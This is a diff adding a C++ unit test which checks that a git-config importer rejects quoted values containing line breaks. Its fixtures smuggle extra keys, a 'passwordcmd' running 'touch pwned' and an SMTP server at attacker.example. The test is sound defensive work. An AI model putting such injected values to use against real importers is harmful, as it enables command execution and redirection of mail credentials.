@@ -215,3 +215,20 @@ TEST_F(Import, GitSendEmailsSettingsSendThroughTheRelayOrItsProgram)
     ASSERT_EQ(r.status, 0) << r.err << ReadFile(home / "provider.log");
     EXPECT_EQ(ReadFile(home / "args"), "-oi\n-f\nann@example.org\n--\nbob@example.org\n");
 }
+
+// git lets a quoted value hold a line break: none of them adds a key.
+TEST_F(Import, AValueThatHoldsALineBreakAddsNoKeyAndWritesNothing)
+{
+    const fs::path gitconfig = home / "gitconfig";
+    for (const char *config : {"[sendemail]\n\tsmtpServer = 127.0.0.1\n\tsmtpUser = \"me\\npasswordcmd\\ttouch pwned\"\n",
+                               "[user]\n\tname = \"Alice\\nsmtp\\tsmtps://attacker.example:465\"\n\temail = a@example.org\n"
+                               "[sendemail]\n\tsmtpServer = 127.0.0.1\n"}) {
+        SCOPED_TRACE(config);
+        WriteFile(gitconfig, config);
+        const Result r = Run({"profile", "import", "git", "--file", gitconfig.string()});
+        EXPECT_EQ(r.status, 3) << r.out << r.err;
+        EXPECT_NE(r.err.find("holds a line break"), std::string::npos) << r.err;
+        EXPECT_FALSE(fs::exists(profiles));
+        EXPECT_FALSE(fs::exists(home / "pwned"));
+    }
+}
